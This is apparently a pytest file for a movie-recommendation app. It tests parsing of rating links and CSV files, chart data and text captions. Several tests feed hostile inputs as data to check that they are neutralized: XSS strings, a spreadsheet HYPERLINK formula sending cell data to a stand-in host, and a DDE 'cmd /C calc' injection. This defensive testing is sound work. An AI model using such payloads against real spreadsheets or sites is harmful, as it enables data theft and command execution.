"""Ratings in links and CSV files; chart data."""

from __future__ import annotations

import io

import pandas as pd
import pyarrow as pa
import pytest

from app.charts import (
    EVERYONE,
    NEIGHBOURS,
    ROWS,
    arrow_datasets,
    composition_caption,
    composition_chart,
    composition_rows,
    recommendation_chart,
    similarity_caption,
    similarity_chart,
)
from reco.explain import Explanation
from reco.profile import (
    MAX_RATINGS,
    format_hidden,
    format_profile,
    parse_hidden,
    parse_link,
    parse_profile,
    profile_from_csv,
    profile_to_csv,
    snap,
)
from reco.recommend import Neighbour, Recommendation

KNOWN = set(range(1, 20_000))


def test_link_round_trip() -> None:
    ratings = {172: 4.5, 50: 5.0, 7: 0.5}
    text = format_profile(ratings)
    assert text == "7:0.5,50:5,172:4.5"
    assert parse_profile(text, KNOWN).ratings == ratings
    assert parse_profile(text, KNOWN).problems == ()


@pytest.mark.parametrize(
    ("text", "ratings", "problem"),
    [
        ("", {}, None),
        (None, {}, None),
        ("50=4", {50: 4.0}, None),
        (" 50 : 4.3 ", {50: 4.5}, None),  # snapped to half stars
        ("50:4,garbage,<b>x</b>", {50: 4.0}, "2 parts of the link are not movie:stars pairs"),
        ("50:4,999999:5", {50: 4.0}, "1 unknown movie id in the link was ignored (999999)"),
        ("50:0.2,51:6", {}, "2 ratings in the link outside 0.5–5 stars"),
        ("50:-1", {}, "1 part of the link is not a movie:stars pair and was ignored"),
        ("50:nan,51:inf", {}, "not movie:stars pairs"),
        ("1:5," * 20_001, {}, "too long"),
    ],
)
def test_parse_profile_keeps_valid_ratings_and_says_what_it_dropped(
    text: str | None, ratings: dict[int, float], problem: str | None
) -> None:
    parsed = parse_profile(text, KNOWN)
    assert parsed.ratings == ratings
    if problem is None:
        assert parsed.problems == ()
    else:
        assert any(problem in p for p in parsed.problems), parsed.problems


def test_problems_never_echo_the_input() -> None:
    parsed = parse_profile("<script>alert(1)</script>,[a](javascript:x):5", KNOWN)
    assert all("<" not in p and "javascript" not in p for p in parsed.problems)


def test_parse_profile_caps_the_number_of_ratings() -> None:
    text = ",".join(f"{m}:4" for m in range(1, MAX_RATINGS + 100))
    parsed = parse_profile(text, KNOWN)
    assert len(parsed.ratings) == MAX_RATINGS
    assert any(f"first {MAX_RATINGS}" in p for p in parsed.problems)


def test_snap_rounds_to_half_stars_within_range() -> None:
    assert [snap(x) for x in (0.5, 0.74, 0.76, 4.24, 4.26, 5.0)] == [0.5, 0.5, 1.0, 4.0, 4.5, 5.0]


def test_csv_round_trip_with_titles() -> None:
    ratings = {50: 5.0, 172: 4.5}
    data = profile_to_csv(ratings, {50: "Star Wars", 172: "The Empire Strikes Back, Part 2"})
    assert data.decode().splitlines()[0] == "movie_id,title,rating"
    assert '"The Empire Strikes Back, Part 2"' in data.decode()
    assert profile_from_csv(data, KNOWN).ratings == ratings


@pytest.mark.parametrize(
    ("data", "ratings", "problem"),
    [
        (b"movieId,rating\n50,4\n", {50: 4.0}, None),
        ("\ufeffmovie_id,stars\n50,4\n".encode(), {50: 4.0}, None),  # BOM, other column name
        (b"movie_id,rating\n50,4\nabc,5\n51,\n", {50: 4.0}, "2 rows of the file"),
        (b"movie_id,rating\n50,4\n999999,5\n", {50: 4.0}, "unknown movie id"),
        (b"title,score\nHeat,4\n", {}, "needs a movie_id column and a rating column"),
        (b"", {}, "not a readable CSV"),
        (b"\x00\xff\xfe garbage", {}, "needs a movie_id column"),
        (b"x" * 3_000_001, {}, "over 2 MB"),
    ],
)
def test_csv_import_problems(data: bytes, ratings: dict[int, float], problem: str | None) -> None:
    parsed = profile_from_csv(data, KNOWN)
    assert parsed.ratings == ratings
    if problem is None:
        assert parsed.problems == ()
    else:
        assert any(problem in p for p in parsed.problems), parsed.problems


def test_composition_rows_give_shares_in_the_given_order() -> None:
    rows = composition_rows({"18-24": 3, "56+": 1}, {"18-24": 10, "25-34": 30}, ["18-24", "25-34"])
    assert [r["value"] for r in rows] == ["18-24", "18-24", "25-34", "25-34", "56+", "56+"]
    assert [r["position"] for r in rows] == [0, 0, 1, 1, 2, 2]
    shares = {(r["value"], r["group"]): r["share"] for r in rows}
    assert shares[("18-24", NEIGHBOURS)] == pytest.approx(0.75)
    assert shares[("25-34", EVERYONE)] == pytest.approx(0.75)
    assert shares[("56+", EVERYONE)] == 0


def test_charts_carry_their_data() -> None:
    long = "The Adventures of Priscilla, Queen of the Desert"
    items = [
        Recommendation(1, "Heat", 1995, "Crime", 2.5, 4, 4.25, predicted=4.4),
        Recommendation(2, long, None, "", 1.0, 2, 3.0, predicted=3.1),
    ]
    explanations = {1: Explanation(1, 10, 3, 1, 0, ()), 2: Explanation(2, 10, 1, 0, 1, ())}
    chart = recommendation_chart(items, explanations)
    assert chart["mark"]["type"] == "bar"
    values = next(iter(chart["datasets"].values()))
    assert [(v["rank"], v["neighbours"]) for v in values] == [
        (1, 3),
        (1, 1),
        (1, 0),
        (2, 1),
        (2, 0),
        (2, 1),
    ]
    assert values[0]["label"] == "1. Heat (1995)"
    assert values[3]["label"] == "2. The Adventures of Priscilla…"  # short on the axis
    assert values[3]["movie"] == long  # whole in the tooltip
    assert chart["encoding"]["y"]["sort"] == {"field": "rank", "op": "min", "order": "ascending"}
    assert chart["encoding"]["color"]["legend"]["orient"] == "bottom"
    neighbours = [Neighbour(1, 0.9, 10, 2), Neighbour(2, 0.4, 5, 1)]
    hist = similarity_chart(neighbours)
    assert hist["encoding"]["x"]["bin"] == {"maxbins": 20}
    grouped = composition_chart("Gender", {"F": 1}, {"F": 5, "M": 5})
    assert grouped["encoding"]["yOffset"]["field"] == "group"
    assert [(r["value"], r["position"]) for r in grouped["datasets"][ROWS]][::2] == [
        ("F", 0),
        ("M", 1),
    ]
    assert all(spec["data"] == {"name": ROWS} for spec in (chart, hist, grouped))


def test_charts_reuse_one_specification_and_hand_their_rows_over_as_arrow() -> None:
    neighbours = [Neighbour(1, 0.9, 10, 2), Neighbour(2, 0.4, 5, 1)]
    first, second = similarity_chart(neighbours), similarity_chart(neighbours[:1])
    assert first["encoding"] is second["encoding"]  # built and validated once
    assert first["datasets"][ROWS] == [{"similarity": 0.9}, {"similarity": 0.4}]
    sent = arrow_datasets(first)
    table = pa.ipc.open_stream(sent["datasets"][ROWS]).read_all()
    assert table.to_pylist() == [{"similarity": 0.9}, {"similarity": 0.4}]
    assert first["datasets"][ROWS] == [{"similarity": 0.9}, {"similarity": 0.4}]  # unchanged
    empty = arrow_datasets(similarity_chart([]))
    assert pa.ipc.open_stream(empty["datasets"][ROWS]).read_all().num_rows == 0


def test_hidden_films_round_trip_in_the_link_with_bad_parts_reported() -> None:
    assert format_hidden({50, 7}) == "7,50"
    assert parse_hidden("7,50", KNOWN).hidden == {7, 50}
    parsed = parse_hidden("7,abc,99999999,50,", KNOWN)
    assert parsed.hidden == {7, 50}
    assert parsed.problems == (
        "2 hidden films in the link are not known movie ids and were ignored.",
    )
    assert parse_hidden(None, KNOWN).hidden == frozenset()


def test_hidden_films_travel_in_the_csv_and_a_rating_wins_over_hiding() -> None:
    data = profile_to_csv({50: 5.0, 7: 3.5}, {50: "Star Wars", 8: "Babe"}, hidden={8, 50})
    lines = data.decode().splitlines()
    assert lines[0] == "movie_id,title,rating,hidden"
    assert lines[-1] == "8,Babe,,yes"  # 50 is rated: not written as hidden
    parsed = profile_from_csv(data, KNOWN)
    assert parsed.ratings == {7: 3.5, 50: 5.0}
    assert parsed.hidden == {8}
    assert parsed.problems == ()
    odd = profile_from_csv(b"movie_id,rating,hidden\n8,,yes\n99999999,,yes\nx,,yes\n", KNOWN)
    assert odd.hidden == {8}
    assert len(odd.problems) == 2  # a malformed row, an unknown hidden film
    assert profile_from_csv(b"movie_id,rating\n8,4\n", KNOWN).hidden == frozenset()


def test_charts_have_text_equivalents() -> None:
    text = composition_caption({"18-24": 3, "25-34": 1}, {"18-24": 10, "25-34": 30, "56+": 60})
    assert (
        text == "Your neighbours vs everyone: 18-24 75% vs 10% · 25-34 25% vs 30% · 56+ 0% vs 60%"
    )
    many = composition_caption({str(i): i + 1 for i in range(9)}, {str(i): 1 for i in range(9)})
    assert many.startswith("Your neighbours vs everyone: 8 20% vs 11%")
    assert many.endswith("· 3 more in the table below")
    neighbours = [Neighbour(1, 0.9, 10, 2), Neighbour(2, 0.4, 5, 1), Neighbour(3, 0.5, 5, 1)]
    assert similarity_caption(neighbours) == (
        "3 neighbours, similarity from 0.400 to 0.900 (median 0.500)."
    )


ML100K_IDS = frozenset(range(1, 1683))


@pytest.mark.parametrize(
    "text",
    [
        "http://localhost:8501/?r=50:5,172:4.5&h=7",
        "https://movies.example/app?dataset=ml-100k&r=50%3A5%2C172%3A4.5&h=7",
        "?r=50:5,172:4.5&h=7",
        "r=50:5,172:4.5&h=7,50",
    ],
)
def test_a_pasted_link_gives_its_ratings_and_hidden_films(text: str) -> None:
    parsed = parse_link(text, ML100K_IDS, "ml-100k")
    assert parsed.ratings == {50: 5.0, 172: 4.5}
    assert parsed.hidden == frozenset({7}) and not parsed.problems


def test_a_pasted_link_reports_what_it_cannot_use_and_never_echoes_it() -> None:
    assert parse_link("50:5,172:4.5", ML100K_IDS, "ml-100k").ratings == {50: 5.0, 172: 4.5}
    other = parse_link("http://x/?dataset=ml-latest-small&r=1:5", ML100K_IDS, "ml-100k")
    assert not other.ratings
    assert other.problems == (
        "The link holds ratings of ml-latest-small, not ml-100k; none were used.",
    )
    hostile = parse_link("http://x/?dataset=<b>hi</b>&r=1:5", ML100K_IDS, "ml-100k")
    assert "<b>" not in hostile.problems[0] and "another release" in hostile.problems[0]
    assert parse_link("http://x/?q=1", ML100K_IDS, "ml-100k").problems == (
        "The link holds no ratings (no r=… part).",
    )
    assert parse_link("  ", ML100K_IDS, "ml-100k").problems == ("The link is empty.",)
    assert "too long" in parse_link("r=" + "1:5," * 20_000, ML100K_IDS, "ml-100k").problems[0]
    partly = parse_link("?r=50:5,9999:4,1:9", ML100K_IDS, "ml-100k")
    assert partly.ratings == {50: 5.0} and len(partly.problems) == 2


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://x/steal?x="&A1,"Click")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tTab",
        "\rReturn",
    ],
)
def test_a_downloaded_csv_never_holds_a_formula(title: str) -> None:
    data = profile_to_csv({50: 5.0}, {50: title}).decode()
    cell = pd.read_csv(io.StringIO(data), dtype=str, keep_default_na=False)["title"][0]
    assert cell == "'" + title.replace("\r", " ")  # shown as text, the row whole
    assert profile_from_csv(data.encode(), KNOWN).ratings == {50: 5.0}
    plain = profile_to_csv({50: 5.0}, {50: "Star Wars (1977)"}).decode()
    assert "Star Wars (1977)" in plain and "'Star" not in plain


def test_a_csv_knows_its_release_and_its_titles_tell_another_release() -> None:
    titles = {50: "Star Wars (1977)", 8: "=Babe (1995)", 7: "Twelve Monkeys (1995)"}
    data = profile_to_csv({50: 5.0, 8: 4.0}, titles, hidden={7}, release="ml-100k")
    mine = profile_from_csv(data, KNOWN, release="ml-100k", titles=titles)
    assert mine.ratings == {50: 5.0, 8: 4.0} and mine.hidden == {7} and not mine.problems
    other = profile_from_csv(data, KNOWN, release="ml-latest-small", titles=titles)
    assert not other.ratings and not other.hidden
    assert other.problems == (
        "The file holds ratings of ml-100k, not ml-latest-small; none were used.",
    )
    renamed = {50: "Heat (1995)", 8: "Casino (1995)", 7: "Twelve Monkeys (1995)"}
    elsewhere = profile_from_csv(data, KNOWN, release="ml-100k", titles=renamed)
    assert not elsewhere.ratings and "2 of 3 differ" in elsewhere.problems[0]
    hostile = profile_from_csv(data.replace(b"ml-100k", b"<b>x</b>"), KNOWN, release="ml-100k")
    assert "another release" in hostile.problems[0] and "<b>" not in hostile.problems[0]


def test_csvs_saved_by_spreadsheets_in_utf16_or_with_semicolons_are_read() -> None:
    table = "movie_id;title;rating\n50;Star Wars;5\n8;Babe;3,5\n".replace("3,5", "3.5")
    assert profile_from_csv(table.encode(), KNOWN).ratings == {50: 5.0, 8: 3.5}
    assert profile_from_csv(table.encode("utf-16"), KNOWN).ratings == {50: 5.0, 8: 3.5}
    tabbed = table.replace(";", "\t").encode("utf-16")
    assert profile_from_csv(tabbed, KNOWN).ratings == {50: 5.0, 8: 3.5}


def test_hidden_films_from_a_link_are_capped_like_ratings() -> None:
    known = range(1, 20_000)
    parsed = parse_hidden(",".join(str(m) for m in range(1, 6_001)), known)
    assert len(parsed.hidden) == MAX_RATINGS and max(parsed.hidden) == MAX_RATINGS
    assert parsed.problems == (
        f"Only the first {MAX_RATINGS:,} hidden films in the link were kept.",
    )
